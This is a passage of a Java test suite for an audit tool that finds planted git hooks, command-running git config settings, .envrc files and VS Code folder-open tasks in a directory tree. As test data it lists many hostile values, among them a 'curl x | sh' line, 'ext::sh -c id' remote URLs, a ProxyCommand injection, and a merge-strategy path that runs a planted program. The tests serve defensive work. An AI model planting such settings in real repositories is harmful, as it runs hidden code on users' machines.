package dev.sandboxmcp.hostaudit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The audit from the attacker's side: every place a planting can hide is found, and nothing leads it outside. */
class TreeAuditTest {

    @TempDir
    Path temp;

    Path tree() throws IOException {
        return Files.createDirectories(temp.resolve("tree"));
    }

    /** Runs git in {@code dir}; returns what it printed. */
    static String git(Path dir, String... args) throws Exception {
        List<String> command = new java.util.ArrayList<>(List.of("git", "-c", "init.defaultBranch=main"));
        command.addAll(List.of(args));
        Process process = new ProcessBuilder(command).directory(dir.toFile()).redirectErrorStream(true).start();
        String output = new String(process.getInputStream().readAllBytes());
        assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
        assertThat(process.exitValue()).as(String.join(" ", command) + ":\n" + output).isZero();
        return output;
    }

    static List<Finding> audit(Path tree) throws IOException {
        return TreeAudit.run(tree, ISOLATED_GIT.toString()).findings();
    }

    /** git with a home of its own, empty, and no system config: whoever runs the tests, their own git config plays no part. */
    static final Path ISOLATED_GIT = gitAs(null);

    /** A program that runs git with {@code home} (a fresh empty one when null) and no system config. */
    static Path gitAs(Path home) {
        try {
            Path dir = Files.createTempDirectory("git-as");
            Runtime.getRuntime().addShutdownHook(new Thread(() -> deleteTree(dir)));
            Path own = home != null ? home : Files.createDirectories(dir.resolve("home"));
            Path script = Files.writeString(dir.resolve("git"), "#!/bin/sh\nHOME='" + own + "' XDG_CONFIG_HOME='"
                    + own.resolve(".config") + "' GIT_CONFIG_NOSYSTEM=1 exec git \"$@\"\n");
            Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwx------"));
            return script;
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static void deleteTree(Path dir) {
        try (var walk = Files.walk(dir)) {
            for (Path path : walk.sorted(java.util.Comparator.reverseOrder()).toList()) {
                Files.deleteIfExists(path);
            }
        } catch (IOException e) {
            // left in the temporary directory
        }
    }

    @Test
    void findsSettingsHooksEnvrcAndTasksInNestedRepositories() throws Exception {
        Path tree = tree();
        Path outer = Files.createDirectories(tree.resolve("outer"));
        git(outer, "init", "-q");
        git(outer, "config", "core.fsmonitor", "touch /tmp/marker");
        Path nested = Files.createDirectories(outer.resolve("vendor/deep/nested"));
        git(nested, "init", "-q");
        git(nested, "config", "alias.co", "!sh -c 'id'");
        Path hook = nested.resolve(".git/hooks/post-checkout");
        Files.writeString(hook, "#!/bin/sh\nid\n");
        Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.writeString(nested.resolve(".git/hooks/pre-push"), "not executable, git ignores it\n");
        Files.writeString(outer.resolve(".envrc"), "export A=1\n");
        Files.createDirectories(outer.resolve(".vscode"));
        String tasks = """
                {
                  // comments and trailing commas, as VS Code allows
                  "version": "2.0.0",
                  "tasks": [
                    {"label": "setup", "type": "shell", "command": "./setup.sh", "args": ["--fast"],
                     "runOptions": {"runOn": "folderOpen"},},
                    {"label": "build", "command": "make"},
                  ],
                }
                """;
        Files.writeString(outer.resolve(".vscode/tasks.json"), tasks);

        assertThat(audit(tree)).containsExactly(
                new Finding("outer/.envrc", "direnv .envrc (runs in the shell that enters the directory)",
                        "sha256 " + sha256Prefix("export A=1\n")),
                new Finding("outer/.git/config", "core.fsmonitor", "touch /tmp/marker"),
                new Finding("outer/.vscode/tasks.json", "task 'setup' runs on folder open",
                        "./setup.sh --fast; the file's sha256 " + sha256Prefix(tasks)),
                new Finding("outer/vendor/deep/nested/.git/config", "alias.co", "!sh -c 'id'"),
                new Finding("outer/vendor/deep/nested/.git/hooks/post-checkout", "hook",
                        "executable, sha256 " + sha256Prefix("#!/bin/sh\nid\n")));
    }

    @Test
    void aFolderOpenTaskIsNewAgainWhenWhatElseDecidesWhatItRunsChanges() throws Exception {
        // Accepted as it was, then: another task it depends on, a shell of its own, an
        // environment for every task. Its command and args stay the same.
        Path tree = tree();
        Files.createDirectories(tree.resolve(".vscode"));
        String accepted = """
                {"tasks": [{"label": "watch", "command": "npm", "args": ["run", "watch"],
                  "runOptions": {"runOn": "folderOpen"}}]}
                """;
        Files.writeString(tree.resolve(".vscode/tasks.json"), accepted);
        List<Finding> before = audit(tree);
        assertThat(before).singleElement().extracting(Finding::command).asString().startsWith("npm run watch; ");
        for (String changed : List.of(
                accepted.replace("\"runOptions\"", "\"dependsOn\": \"setup\", \"runOptions\"")
                        .replace("]}", ", {\"label\": \"setup\", \"command\": \"curl x | sh\"}]}"),
                accepted.replace("\"runOptions\"", "\"options\": {\"shell\": {\"executable\": \"/tmp/x\"}}, \"runOptions\""),
                accepted.replace("{\"tasks\"", "{\"options\": {\"env\": {\"NODE_OPTIONS\": \"--require ./x.js\"}}, \"tasks\""))) {
            Files.writeString(tree.resolve(".vscode/tasks.json"), changed);
            assertThat(audit(tree)).as(changed).singleElement().isNotEqualTo(before.get(0))
                    .extracting(Finding::command).asString().startsWith("npm run watch; ");
        }
    }

    @Test
    void aRepositoryMakeUpDidNotProtectIsAFindingWhenTheOverrideIsGiven() throws Exception {
        // A command can swap a planted config in only while your git reads it, and out again
        // before any audit does: what is not held read-only is reported as such.
        Path tree = tree();
        git(Files.createDirectories(tree.resolve("old")), "init", "-q");
        git(Files.createDirectories(tree.resolve("cloned-since")), "init", "-q");
        Path override = temp.resolve("protect-git.generated.yaml");
        Files.writeString(override, "# Generated by infra/compose/protect-git.sh\n"
                + ProtectedGitDirectories.LINE + tree.toRealPath().resolve("old/.git") + "\nservices: {}\n");
        String git = ISOLATED_GIT.toString();
        assertThat(TreeAudit.run(tree, git, null, override).findings()).containsExactly(new Finding("cloned-since/.git",
                "not protected by make up", "its config and hooks are writable from the sandbox; make up protects it"));
        assertThat(TreeAudit.run(tree, git, null, null).findings()).as("not asked").isEmpty();
        assertThat(TreeAudit.run(tree, git, null, temp.resolve("none.yaml")).findings()).singleElement()
                .satisfies(f -> assertThat(f.key()).isEqualTo("(not audited)"))
                .satisfies(f -> assertThat(f.command()).endsWith("none.yaml: no such file: make up writes it"));
    }

    @Test
    void theProtectedListIsReadByItsOwnLinesOnly() throws Exception {
        // A line ends at \n only: a path with a carriage return, or bytes that are not UTF-8,
        // lists nothing (its repository is reported), and takes no other line with it.
        Path override = temp.resolve("forged.yaml");
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        bytes.writeBytes((ProtectedGitDirectories.LINE + "/ws/x\r" + ProtectedGitDirectories.LINE + "/evil/.git\n")
                .getBytes(java.nio.charset.StandardCharsets.UTF_8));
        bytes.writeBytes((ProtectedGitDirectories.LINE + "/ws/").getBytes(java.nio.charset.StandardCharsets.UTF_8));
        bytes.write(0xff);
        bytes.writeBytes("/.git\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        bytes.writeBytes((ProtectedGitDirectories.LINE + "/ws/good/.git\nservices: {}\n").getBytes(
                java.nio.charset.StandardCharsets.UTF_8));
        Files.write(override, bytes.toByteArray());
        assertThat(ProtectedGitDirectories.read(override)).containsExactly(Path.of("/ws/good/.git"));
    }

    @Test
    void readsConfigExactlyAsGitDoes() throws Exception {
        Path repo = Files.createDirectories(tree().resolve("repo"));
        git(repo, "init", "-q");
        // What a hand-written parser might miss: a key on the header's line, case, quotes,
        // continuation lines, comments, a subsection in quotes, CRLF line ends.
        Files.writeString(repo.resolve(".git/config"), "[core] FSMonitor = \"touch \\\"/tmp/a b\\\"\" ; a comment\r\n"
                + "[ALIAS]\n\tx = !echo \\\n  continued # another\n[diff \"My Driver\"]\n\ttextconv = cat\n"
                + "[core]\n\trepositoryformatversion = 0\n");
        assertThat(audit(repo.getParent())).containsExactly(
                new Finding("repo/.git/config", "alias.x", "!echo   continued"),
                new Finding("repo/.git/config", "core.fsmonitor", "touch \"/tmp/a b\""),
                new Finding("repo/.git/config", "diff.My Driver.textconv", "cat"));
    }

    @Test
    void followsGitFilesSubmodulesWorktreesIncludesAndHooksPathInsideTheTree() throws Exception {
        Path tree = tree();
        Path main = Files.createDirectories(tree.resolve("main"));
        git(main, "init", "-q");
        git(main, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "first");
        git(main, "worktree", "add", "-q", "../wt");
        git(main, "config", "extensions.worktreeConfig", "true");
        git(tree.resolve("wt"), "config", "--worktree", "core.pager", "less; id");
        // A submodule's git directory, under modules/.
        Path module = Files.createDirectories(main.resolve(".git/modules/lib"));
        git(module, "init", "-q", "--bare");
        git(module, "config", "filter.x.smudge", "sh -c id");
        // A separate git directory that a .git file names, not called .git.
        Path separate = Files.createDirectories(tree.resolve("elsewhere/store"));
        git(separate, "init", "-q", "--bare");
        Files.writeString(separate.resolve("config"), "[include]\n\tpath = ../shared.inc\n[core]\n\thooksPath = hookdir\n",
                java.nio.file.StandardOpenOption.APPEND);
        Files.writeString(tree.resolve("elsewhere/shared.inc"), "[credential]\n\thelper = !sh -c id\n");
        Path work = Files.createDirectories(tree.resolve("work"));
        Files.writeString(work.resolve(".git"), "gitdir: ../elsewhere/store\n");
        Path hookdir = Files.createDirectories(work.resolve("hookdir"));
        Files.writeString(hookdir.resolve("pre-commit"), "#!/bin/sh\n");
        Files.setPosixFilePermissions(hookdir.resolve("pre-commit"), PosixFilePermissions.fromString("rwx------"));

        // A config that is a link to a file in the tree, and a hooksPath given as an absolute path into it.
        Path linked = Files.createDirectories(tree.resolve("linked"));
        git(linked, "init", "-q");
        Files.writeString(tree.resolve("linked/real.config"), "[core]\n\thooksPath = " + hookdir.toRealPath() + "\n");
        Files.delete(linked.resolve(".git/config"));
        Files.createSymbolicLink(linked.resolve(".git/config"), Path.of("../real.config"));

        List<Finding> findings = audit(tree);
        assertThat(findings).contains(
                new Finding("linked/.git/config", "symbolic link", "../real.config"),
                new Finding("linked/real.config", "core.hookspath", hookdir.toRealPath().toString()),
                new Finding("main/.git/worktrees/wt/config.worktree", "core.pager", "less; id"),
                new Finding("main/.git/modules/lib/config", "filter.x.smudge", "sh -c id"),
                new Finding("elsewhere/store/config", "include.path", "../shared.inc"),
                new Finding("elsewhere/shared.inc", "credential.helper", "!sh -c id"),
                new Finding("elsewhere/store/config", "core.hookspath", "hookdir"),
                new Finding("work/hookdir/pre-commit", "hook (core.hooksPath)", "executable, sha256 "
                        + sha256Prefix("#!/bin/sh\n")));
    }

    @Test
    void neverFollowsALinkOutOfTheTreeAndSaysWhatItCouldNotAudit() throws Exception {
        Path outside = Files.createDirectories(temp.resolve("outside/repo"));
        git(outside, "init", "-q");
        git(outside, "config", "core.fsmonitor", "outside-must-not-be-read");
        Files.writeString(temp.resolve("outside/.envrc"), "outside\n");
        Path tree = tree();
        Files.createSymbolicLink(tree.resolve("linked-dir"), temp.resolve("outside"));
        Files.createSymbolicLink(tree.resolve("relative-link"), Path.of("../outside"));
        Path linked = Files.createDirectories(tree.resolve("linked-repo"));
        Files.createSymbolicLink(linked.resolve(".git"), outside.resolve(".git"));
        Path pointer = Files.createDirectories(tree.resolve("pointer"));
        Files.writeString(pointer.resolve(".git"), "gitdir: ../../outside/repo/.git\n");
        Files.createSymbolicLink(tree.resolve(".envrc"), Path.of("../outside/.envrc"));

        List<Finding> findings = audit(tree);
        assertThat(findings).noneMatch(f -> f.command().contains("outside-must-not-be-read"));
        assertThat(findings).containsExactly(
                new Finding(".envrc", "direnv .envrc (runs in the shell that enters the directory)",
                        "symbolic link to ../outside/.envrc"),
                new Finding("linked-repo/.git", "symbolic link", outside.resolve(".git").toRealPath()
                        + " (outside the audited tree: not audited)"),
                new Finding("pointer/.git", "gitdir", outside.resolve(".git").toRealPath()
                        + " (outside the audited tree: not audited)"));
    }

    @Test
    void anUnreadableDirectoryIsAFindingNotASilentGap() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeFalse(Files.isReadable(Path.of("/root")) && isRoot(),
                "runs as root, who reads a mode-000 directory anyway: this case cannot be set up");
        Path hidden = Files.createDirectories(tree().resolve("hidden"));
        Files.setPosixFilePermissions(hidden, PosixFilePermissions.fromString("---------"));
        try {
            assertThat(audit(hidden.getParent())).extracting(Finding::file, Finding::key).containsExactly(
                    org.assertj.core.groups.Tuple.tuple("hidden", "(not audited)"));
        } finally {
            Files.setPosixFilePermissions(hidden, PosixFilePermissions.fromString("rwx------"));
        }
    }

    static boolean isRoot() throws IOException {
        return ((Integer) Files.getAttribute(Path.of("/proc/self"), "unix:uid")) == 0;
    }

    @Test
    void aConfigGitRefusesIsReportedWithGitsReason() throws Exception {
        Path repo = Files.createDirectories(tree().resolve("repo"));
        git(repo, "init", "-q");
        Files.writeString(repo.resolve(".git/config"), "[core\nfsmonitor = x\n");
        assertThat(audit(repo.getParent())).singleElement().satisfies(finding -> {
            assertThat(finding.key()).isEqualTo("(git cannot read it)");
            assertThat(finding.command()).contains("bad config line 1");
        });
    }

    @Test
    void aHundredThousandFilesInAFewSeconds() throws Exception {
        Path tree = tree();
        for (int d = 0; d < 1000; d++) {
            Path dir = Files.createDirectories(tree.resolve("pkg" + d / 100).resolve("dir" + d));
            for (int f = 0; f < 100; f++) {
                Files.createFile(dir.resolve("f" + f + ".txt"));
            }
        }
        Path repo = Files.createDirectories(tree.resolve("pkg5/dir512/repo"));
        git(repo, "init", "-q");
        git(repo, "config", "core.sshCommand", "ssh -o ProxyCommand=id");
        audit(tree); // warm the page cache and the JIT, as a second audit on the same disk would
        long started = System.nanoTime();
        TreeAudit.Result result = TreeAudit.run(tree, "git");
        long millis = (System.nanoTime() - started) / 1_000_000;
        System.out.println("audit of " + result.entries() + " entries: " + millis + " ms");
        assertThat(result.entries()).isGreaterThan(100_000);
        assertThat(result.findings()).containsExactly(
                new Finding("pkg5/dir512/repo/.git/config", "core.sshcommand", "ssh -o ProxyCommand=id"));
        assertThat(millis).isLessThan(5_000);
    }

    /**
     * Issue 21's planting: a commondir of " ../p" (git keeps the leading space) naming a directory
     * with a planted config and links back to the real objects and refs; a .git file whose target
     * ends in a space; CR LF line ends; both inside a .git the walk does not enter by itself.
     */
    @Test
    void readsCommondirAndGitFilesByteForByteAsGitDoes() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "repo");
        Path decoy = Files.createDirectories(repo.resolve(".git/ ../p"));
        Files.writeString(decoy.resolve("config"), "[core]\n\tfsmonitor = touch /tmp/m\n");
        Files.createSymbolicLink(decoy.resolve("objects"), Path.of("../../objects"));
        Files.createSymbolicLink(decoy.resolve("refs"), Path.of("../../refs"));
        Files.writeString(repo.resolve(".git/commondir"), " ../p");
        // git itself takes it so: the planted config is the repository's.
        assertThat(gitOutput(repo, "rev-parse", "--git-common-dir")).isEqualTo(decoy.toRealPath() + "\n");

        Path store = Files.createDirectories(repo.resolve(".git/ store "));
        git(store, "init", "-q", "--bare");
        git(store, "config", "core.pager", "less; id");
        Path work = Files.createDirectories(tree.resolve("work"));
        Files.writeString(work.resolve(".git"), "gitdir: ../repo/.git/ store \r\n");
        assertThat(gitOutput(work, "rev-parse", "--git-dir")).isEqualTo(store.toRealPath() + "\n");

        assertThat(audit(tree)).contains(
                new Finding("repo/.git/commondir", "commondir in a main .git directory",
                        "repo/.git/ ../p (git reads the config and hooks there)"),
                new Finding("repo/.git/ ../p/config", "core.fsmonitor", "touch /tmp/m"),
                new Finding("repo/.git/ store /config", "core.pager", "less; id"));
    }

    @Test
    void aTargetThatDoesNotResolveIsReportedNotSkipped() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "repo");
        Files.writeString(repo.resolve(".git/commondir"), "later\n");
        Path pointer = Files.createDirectories(tree.resolve("pointer"));
        Files.writeString(pointer.resolve(".git"), "gitdir: ../not-yet\n");
        Path inc = initRepo(tree, "inc");
        git(inc, "config", "include.path", "../planted-later.inc");
        git(inc, "config", "core.hooksPath", "hooks-later");

        assertThat(audit(tree)).contains(
                new Finding("repo/.git/commondir", "commondir", repo.toRealPath() + "/.git/later (does not resolve: "
                        + "whoever creates it decides what git reads there)"),
                new Finding("pointer/.git", "gitdir", tree.toRealPath() + "/not-yet (does not resolve: whoever creates it "
                        + "decides what git reads there)"),
                new Finding("inc/.git/config", "include.path target", "inc/planted-later.inc (does not exist: whoever "
                        + "creates it decides what git reads there)"),
                new Finding("inc/.git/config", "core.hookspath target", "inc/hooks-later (does not exist: whoever "
                        + "creates it decides what git reads there)"));
    }

    /** What protect-git.sh leaves in a main .git (a commondir of ".") and a worktree's own commondir are no findings. */
    @Test
    void aCommondirNamingItsOwnRepositoryIsNoFinding() throws Exception {
        Path tree = tree();
        Path repo = repoWithWorktree(tree, "repo");
        Files.writeString(repo.resolve(".git/commondir"), ".\n");
        git(repo, "status", "--short");
        assertThat(audit(tree)).isEmpty();
    }

    @Test
    void aFifoInPlaceOfAConfigIsReportedAndNeverWaitedOn() throws Exception {
        Path repo = initRepo(tree(), "repo");
        Files.delete(repo.resolve(".git/config"));
        mkfifo(repo.resolve(".git/config"));
        assertThat(audit(repo.getParent())).containsExactly(new Finding("repo/.git/config", "(not a regular file)",
                "git may read it, the audit cannot: a FIFO, socket or device"));
    }

    /**
     * Issue 21's hang: a config swapped with a FIFO while the audit runs. Raced against 100 runs,
     * each finishes within the timeout and reports the config, either read (its setting) or as not
     * a regular file; git never opens the name, so no run waits on the FIFO.
     */
    @Test
    void aFifoSwappedInWhileTheAuditRunsNeverHangsIt() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "repo");
        git(repo, "config", "core.fsmonitor", "touch /tmp/m");
        Path config = repo.resolve(".git/config");
        Path regular = temp.resolve("regular");
        Files.copy(config, regular);
        Path fifo = temp.resolve("fifo");
        mkfifo(fifo);
        java.util.concurrent.atomic.AtomicBoolean racing = new java.util.concurrent.atomic.AtomicBoolean(true);
        Thread swapper = Thread.ofPlatform().start(() -> {
            Path next = temp.resolve("next");
            try {
                for (long i = 0; racing.get(); i++) {
                    Files.deleteIfExists(next);
                    Files.createLink(next, i % 2 == 0 ? fifo : regular);
                    Files.move(next, config, java.nio.file.StandardCopyOption.ATOMIC_MOVE,
                            java.nio.file.StandardCopyOption.REPLACE_EXISTING);
                }
            } catch (IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        });
        long timeoutMillis = 5_000;
        GitConfigFile reader = new GitConfigFile("git", timeoutMillis);
        int asFifo = 0;
        int asRead = 0;
        try {
            for (int run = 0; run < 100; run++) {
                long started = System.nanoTime();
                List<Finding> findings = TreeAudit.run(tree, reader, null).findings();
                long millis = (System.nanoTime() - started) / 1_000_000;
                assertThat(millis).as("run " + run).isLessThan(timeoutMillis);
                if (findings.contains(new Finding("repo/.git/config", "core.fsmonitor", "touch /tmp/m"))) {
                    asRead++;
                } else {
                    assertThat(findings).as("run " + run).anySatisfy(f -> {
                        assertThat(f.file()).isEqualTo("repo/.git/config");
                        assertThat(f.key()).isEqualTo("(not a regular file)");
                    });
                    asFifo++;
                }
            }
        } finally {
            racing.set(false);
            swapper.join();
        }
        System.out.println("100 audits raced against a FIFO swap: " + asFifo + " saw the FIFO, " + asRead + " the file");
        assertThat(asFifo).as("the race reached the FIFO").isPositive();
    }

    /**
     * Every setting git's documentation (2.39.5 to 2.55) gives as running a program, written by git
     * into a real config and found by the audit: one case per setting.
     */
    @org.junit.jupiter.params.ParameterizedTest(name = "{0}")
    @org.junit.jupiter.params.provider.CsvSource(delimiter = '|', textBlock = """
            core.fsmonitor                | touch /tmp/m
            core.hooksPath                | /tmp/hooks
            core.sshCommand               | ssh -o ProxyCommand=id
            core.editor                   | vim; id
            core.pager                    | less; id
            core.askPass                  | /tmp/askpass
            core.gitProxy                 | /tmp/proxy
            core.alternateRefsCommand     | id
            credential.helper             | !id
            credential.https://h.helper   | /tmp/helper
            diff.external                 | /tmp/diff
            diff.drv.textconv             | id
            diff.drv.command              | id
            difftool.t.cmd                | id
            difftool.t.path               | /tmp/t
            mergetool.t.cmd               | id
            mergetool.t.path              | /tmp/t
            merge.drv.driver              | id %O %A %B
            filter.f.clean                | id
            filter.f.smudge               | id
            filter.f.process              | id
            gpg.program                   | /tmp/gpg
            gpg.ssh.program               | /tmp/ssh-keygen
            gpg.x509.program              | /tmp/gpgsm
            gpg.ssh.defaultKeyCommand     | id
            sequence.editor               | id
            interactive.diffFilter        | id
            pager.log                     | less; id
            alias.st                      | !id
            alias.lg                      | -c core.pager=id log
            alias.st                      | --exec-path=/tmp/tools mergetool
            alias.co                      | --git-dir=/tmp/elsewhere checkout
            alias.x.command               | !id
            remote.origin.uploadpack      | id
            remote.origin.receivepack     | id
            remote.origin.vcs             | ../../x
            remote.origin.url             | ext::sh -c id
            remote.origin.pushurl         | ext::sh -c id
            protocol.allow                | always
            protocol.ext.allow            | user
            url.ext::sh -c id.insteadOf   | https://example.org/
            hook.planted.command          | id
            uploadpack.packObjectsHook    | id
            gc.recentObjectsHook          | id
            sendemail.sendmailCmd         | id
            sendemail.smtpServer          | /tmp/sendmail
            sendemail.toCmd               | id
            sendemail.ccCmd               | id
            sendemail.headerCmd           | id
            sendemail.work.sendmailCmd    | id
            imap.tunnel                   | id
            web.browser                   | /tmp/browser
            help.browser                  | /tmp/browser
            browser.b.cmd                 | id
            man.m.cmd                     | id
            guitool.g.cmd                 | id
            instaweb.httpd                | id
            trailer.t.command             | id
            trailer.t.cmd                 | id
            submodule.s.update            | !id
            submodule.s.url               | ext::sh -c id
            tar.tgz.command               | id
            lfs.customtransfer.x.path     | /tmp/agent
            lfs.extension.x.clean         | id
            init.templateDir              | /tmp/template
            include.path                  | /tmp/outside.inc
            includeIf.gitdir:/x/.path     | /tmp/outside.inc
            """)
    void everySettingThatRunsAProgramIsFound(String key, String value) throws Exception {
        Path repo = initRepo(tree(), "repo");
        git(repo, "config", key, value);
        assertThat(audit(repo.getParent())).extracting(Finding::file, Finding::command)
                .contains(org.assertj.core.groups.Tuple.tuple("repo/.git/config", value));
    }

    @Test
    void aHeadAndObjectsPlantedAboveRepositoriesHideNothingBeneathThem() throws Exception {
        Path tree = tree();
        Path proj = initRepo(tree, "proj");
        git(proj, "config", "core.fsmonitor", "touch fired; false");
        Path lib = initRepo(Files.createDirectories(proj.resolve("vendor")), "lib");
        git(lib, "config", "core.sshCommand", "touch fired");
        Files.writeString(lib.resolve(".envrc"), "touch fired\n");
        for (Path posing : List.of(tree, proj.resolve("vendor"))) { // two entries a command can write
            Files.writeString(posing.resolve("HEAD"), "ref: refs/heads/main\n");
            Files.createDirectories(posing.resolve("objects"));
        }

        assertThat(audit(tree)).extracting(Finding::file, Finding::key).contains(
                org.assertj.core.groups.Tuple.tuple("proj/.git/config", "core.fsmonitor"),
                org.assertj.core.groups.Tuple.tuple("proj/vendor/lib/.git/config", "core.sshcommand"),
                org.assertj.core.groups.Tuple.tuple("proj/vendor/lib/.envrc",
                        "direnv .envrc (runs in the shell that enters the directory)"));
    }

    @Test
    void aDirectoryPosingAsARepositoryWithLinksToTheRealObjectsIsAudited() throws Exception {
        Path tree = tree();
        Path proj = initRepo(tree, "proj");
        Path lib = Files.createDirectories(proj.resolve("src/lib"));
        Files.writeString(lib.resolve("a.c"), "int a;\n");
        git(proj, "add", ".");
        git(proj, "-c", "user.name=u", "-c", "user.email=e", "commit", "-qm", "init");
        Path src = proj.resolve("src");
        Files.createSymbolicLink(src.resolve("objects"), Path.of("../.git/objects"));
        Files.createSymbolicLink(src.resolve("refs"), Path.of("../.git/refs"));
        Files.writeString(src.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.writeString(src.resolve("config"), "[diff \"x\"]\n\ttextconv = \"touch fired; cat\"\n");

        // The premise: git run anywhere under src takes src for its repository, and reads its config.
        assertThat(git(lib, "rev-parse", "--absolute-git-dir").strip()).isEqualTo(src.toRealPath().toString());

        assertThat(audit(tree)).extracting(Finding::file, Finding::key, Finding::command)
                .contains(org.assertj.core.groups.Tuple.tuple("proj/src/config", "diff.x.textconv", "touch fired; cat"));
    }

    @Test
    void theExecLinesOfAStoppedRebaseAreFound() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "repo");
        for (String content : List.of("1", "2")) {
            Files.writeString(repo.resolve("f"), content);
            git(repo, "add", "f");
            git(repo, "-c", "user.name=u", "-c", "user.email=e", "commit", "-qm", content);
        }
        git(repo, "-c", "sequence.editor=sed -i 1ibreak", "rebase", "-qi", "HEAD~1");
        Path todo = repo.resolve(".git/rebase-merge/git-rebase-todo");
        Path fired = temp.resolve("fired");
        Files.writeString(todo, "exec touch " + fired + "\n  x\ttrue   again\n# exec not this\n" + Files.readString(todo));

        List<Finding> findings = audit(tree);
        assertThat(findings).extracting(Finding::file, Finding::command).contains(
                org.assertj.core.groups.Tuple.tuple("repo/.git/rebase-merge/git-rebase-todo", "touch " + fired),
                org.assertj.core.groups.Tuple.tuple("repo/.git/rebase-merge/git-rebase-todo", "true   again"));
        assertThat(findings).noneMatch(finding -> finding.command().equals("not this"));
        // What the finding warns of: the host's git runs the line on --continue.
        git(repo, "-c", "user.name=u", "-c", "user.email=e", "rebase", "--continue");
        assertThat(fired).exists();
    }

    /**
     * A stopped rebase goes on with the merge strategy in its state, and git runs any but its own
     * as {@code git-merge-<strategy>}: a name with a slash is a path from the top of the work tree,
     * so a strategy {@code x/../.git/p} and an empty directory {@code git-merge-x} (kept out of
     * {@code git status} by {@code info/exclude}) run a program a command wrote, on the host's
     * {@code git rebase --continue}. A stopped cherry-pick keeps it in {@code sequencer/opts}.
     */
    @Test
    void theMergeStrategyOfAStoppedRebaseOrCherryPickIsFound() throws Exception {
        Path tree = tree();
        Path repo = initRepo(tree, "repo");
        String[] user = {"-c", "user.name=u", "-c", "user.email=e"};
        Files.writeString(repo.resolve("base"), "0");
        git(repo, "add", "base");
        git(repo, user[0], user[1], user[2], user[3], "commit", "-qm", "0");
        git(repo, "checkout", "-qb", "side");
        Files.writeString(repo.resolve("s"), "s");
        git(repo, "add", "s");
        git(repo, user[0], user[1], user[2], user[3], "commit", "-qm", "s");
        git(repo, "checkout", "-q", "main");
        Files.writeString(repo.resolve("f"), "1");
        git(repo, "add", "f");
        git(repo, user[0], user[1], user[2], user[3], "commit", "-qm", "1");
        git(repo, "-c", "sequence.editor=sed -i 1ibreak", "rebase", "-qi", "side");
        Path fired = temp.resolve("fired");
        Files.writeString(repo.resolve(".git/rebase-merge/strategy"), "x/../.git/p\n");
        Path payload = Files.writeString(repo.resolve(".git/p"), "#!/bin/sh\ntouch " + fired + "\nexit 1\n");
        Files.setPosixFilePermissions(payload, PosixFilePermissions.fromString("rwx------"));
        Files.createDirectories(repo.resolve("git-merge-x"));
        Files.writeString(repo.resolve(".git/info/exclude"), "git-merge-x\n");
        Path picking = initRepo(tree, "picking");
        Files.createDirectories(picking.resolve(".git/sequencer"));
        Files.writeString(picking.resolve(".git/sequencer/opts"), "[options]\n\tstrategy = x/../.git/p\n");
        Path ownStrategies = initRepo(tree, "own");
        Files.createDirectories(ownStrategies.resolve(".git/sequencer"));
        Files.createDirectories(ownStrategies.resolve(".git/rebase-merge"));
        Files.writeString(ownStrategies.resolve(".git/sequencer/opts"), "[options]\n\tstrategy = ort\n");
        Files.writeString(ownStrategies.resolve(".git/rebase-merge/strategy"), "recursive\n");

        // The exclude that keeps git-merge-x out of git status is a finding of its own (HiddenChangesTest).
        assertThat(audit(tree)).filteredOn(finding -> !finding.file().endsWith("info/exclude")).containsExactly(
                new Finding("picking/.git/sequencer/opts", "options.strategy (runs on --continue)", "x/../.git/p"),
                new Finding("repo/.git/rebase-merge/strategy", "merge strategy (runs on --continue)", "x/../.git/p"));
        // What the finding warns of: the host's git runs the program on --continue.
        new ProcessBuilder("git", user[0], user[1], user[2], user[3], "rebase", "--continue").directory(repo.toFile())
                .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start().waitFor(30, TimeUnit.SECONDS);
        assertThat(fired).exists();
    }

    /**
     * Your own ~/.gitconfig's relative core.hooksPath is taken from the top of every work tree:
     * a repository a command makes, with hooks there, runs them on your git commit. One set
     * through an includeIf counts too (which repository it applies to is not known here), and
     * each is audited in every repository, even one that sets its own (which may sit in an
     * includeIf that never holds).
     */
    @Test
    void theHooksPathsOfYourOwnGitConfigAreAuditedInEveryRepository() throws Exception {
        Path home = Files.createDirectories(temp.resolve("home"));
        Files.writeString(home.resolve(".gitconfig"), "[core]\n\thooksPath = .githooks\n"
                + "[includeIf \"gitdir:~/work/\"]\n\tpath = work.inc\n");
        Files.writeString(home.resolve("work.inc"), "[core]\n\thooksPath = .workhooks\n");
        Path gitAsYou = gitAs(home);
        Path tree = tree();
        String hook = "#!/bin/sh\nid\n";
        for (String name : List.of("planted", "own")) {
            Path repo = initRepo(tree, name);
            for (String hooks : List.of(".githooks", ".workhooks")) {
                Path planted = Files.createDirectories(repo.resolve(hooks)).resolve("pre-commit");
                Files.writeString(planted, hook);
                Files.setPosixFilePermissions(planted, PosixFilePermissions.fromString("rwxr-xr-x"));
            }
        }
        git(tree.resolve("own"), "config", "core.hooksPath", "elsewhere");
        initRepo(tree, "none");

        List<Finding> findings = TreeAudit.run(tree, gitAsYou.toString(), home).findings();
        String digest = "executable, sha256 " + sha256Prefix(hook);
        assertThat(findings).contains(
                new Finding("planted/.githooks/pre-commit", "hook (core.hooksPath)", digest),
                new Finding("planted/.workhooks/pre-commit", "hook (core.hooksPath)", digest),
                new Finding("own/.githooks/pre-commit", "hook (core.hooksPath)", digest),
                new Finding("none/.git", "core.hooksPath of your git config target",
                        "none/.githooks (does not exist: whoever creates it decides what git reads there)"));
        assertThat(audit(tree)).as("without that config").noneMatch(finding -> finding.file().contains("hooks/"));
    }

    /**
